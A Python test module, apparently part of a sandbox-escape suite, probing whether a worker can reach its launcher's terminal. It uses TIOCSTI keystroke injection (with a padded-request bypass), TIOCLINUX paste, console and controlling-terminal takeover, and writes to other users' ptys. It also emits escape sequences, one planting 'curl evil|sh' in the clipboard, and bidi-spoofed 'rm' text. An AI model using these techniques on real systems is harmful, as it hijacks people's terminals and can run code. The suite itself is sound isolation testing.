"""Typing into, or drawing on, the terminal of whoever started the worker."""

import ctypes
import fcntl
import os
import termios

from tests.escapes.inside import FACTS, checked, each, libc, say

TIOCSTI, TIOCLINUX, TIOCSCTTY, TIOCCONS = 0x5412, 0x541C, 0x540E, 0x541D


def _terminals() -> "list[int]":
    found = [number for number in range(256) if os.isatty(number)]
    for path in ("/dev/tty", "/dev/console", FACTS["terminal"]):
        try:
            found.append(os.open(path, os.O_RDWR | os.O_NOCTTY | os.O_NONBLOCK))
        except OSError:
            continue
    return found


def type_into_it() -> None:
    def way(terminal: int) -> None:
        for char in FACTS["token"]:
            fcntl.ioctl(terminal, TIOCSTI, char.encode())

    each(*(lambda number=number: way(number) for number in (0, 1, 2, *_terminals())))


def type_with_padding() -> None:
    # The kernel looks at the low half of the request only.
    def way(terminal: int) -> None:
        for char in FACTS["token"]:
            data = ctypes.create_string_buffer(char.encode())
            checked(libc.ioctl(terminal, ctypes.c_ulong(0xFFFFFFFF00000000 | TIOCSTI), data))

    each(*(lambda number=number: way(number) for number in (0, 1, 2, *_terminals())))


def paste_from_the_console() -> None:
    PASTE = bytes([3])
    each(*(lambda number=number: fcntl.ioctl(number, TIOCLINUX, PASTE) for number in (0, 1, 2, *_terminals())))


def write_to_dev_tty() -> None:
    with open("/dev/tty", "wb", buffering=0) as file:
        file.write(FACTS["token"].encode())


def write_to_its_name() -> None:
    # Without a sandbox those of other people are left alone.
    others = [] if FACTS["bounded"] else [f"/dev/pts/{name}" for name in os.listdir("/dev/pts") if name.isdigit()]
    each(*(lambda name=name: _write(name) for name in (FACTS["terminal"], *others)))


def _write(name: str) -> None:
    descriptor = os.open(name, os.O_WRONLY | os.O_NOCTTY | os.O_NONBLOCK)
    os.write(descriptor, FACTS["token"].encode())


def inherited_terminal() -> None:
    for number in range(256):
        if os.isatty(number):
            os.write(number, FACTS["token"].encode())


def steal_it() -> None:
    if os.fork() == 0:
        os.setsid()
        for number in _terminals():
            try:
                fcntl.ioctl(number, TIOCSCTTY, 1)
                write_to_dev_tty()
            except OSError:
                continue
        os._exit(0)
    os.wait()


def take_the_console() -> None:
    def way(terminal: int) -> None:
        fcntl.ioctl(terminal, TIOCCONS)
        os.write(terminal, FACTS["token"].encode())

    each(*(lambda number=number: way(number) for number in _terminals()))


def change_its_settings() -> None:
    for terminal in _terminals():
        settings = termios.tcgetattr(terminal)
        settings[3] |= termios.ECHO
        termios.tcsetattr(terminal, termios.TCSANOW, settings)


def acting_output() -> None:
    # A title, the clipboard, a question that the terminal answers as if typed, another screen, and what hides.
    say("\x1b]0;taken\x07\x1b]52;c;Y3VybCBldmlsfHNo\x07\x1b[6n\x1bP$q\x1b\\\x1b[?1049h\x9b31m\rapproved\b\x7f")
    say("".join(map(chr, [*range(9), *range(11, 32), *range(0x7F, 0xA0)])))


def hiding_output() -> None:
    say("rm \u202etxt.elif\u202c \u2066\u200b\u200f\ufeff\u2028\U000e0041 done")
